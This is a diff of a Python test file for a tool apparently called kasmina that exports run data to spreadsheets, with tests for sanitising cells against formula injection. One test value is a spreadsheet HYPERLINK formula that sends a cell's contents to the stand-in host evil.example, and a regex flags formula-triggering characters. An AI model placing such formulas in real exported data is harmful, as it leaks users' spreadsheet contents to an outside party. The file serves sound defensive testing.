@@ -15,10 +15,7 @@ import csv
 import io
 import json
 import math
-import os
 import re
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -27,9 +24,8 @@ from kasmina.events import EpochCompleted, SeedGerminated, slot_stream
 from kasmina.export import COLUMN_KINDS, Kind, export_run
 from kasmina.ledger import Ledger
 from kasmina.spreadsheet import original, safe_cell
-from security.attacks import fingerprint
+from security.attacks import fingerprint, kasmina
 
-BIN = str(Path(sys.executable).with_name("kasmina"))
 RUN = "sheet"
 NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 #: Seed ids that are formulas to a spreadsheet, and some that are not.
@@ -48,16 +44,6 @@ SEEDS = (
 )
 RISKY = re.compile(r"[=+\-@\t\r]")
 NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
-
-
-def kasmina(url: str, *args: str) -> subprocess.CompletedProcess[str]:
-    """The command's output decoded as written (no newline translation: cells hold \\r)."""
-    env = {k: v for k, v in os.environ.items() if k != "KASMINA_DB"}
-    env["COLUMNS"] = "1000"
-    proc = subprocess.run([BIN, "--db", url, *args], capture_output=True, env=env, timeout=120)
-    return subprocess.CompletedProcess(
-        proc.args, proc.returncode, proc.stdout.decode(), proc.stderr.decode()
-    )
 
 
 @pytest.fixture
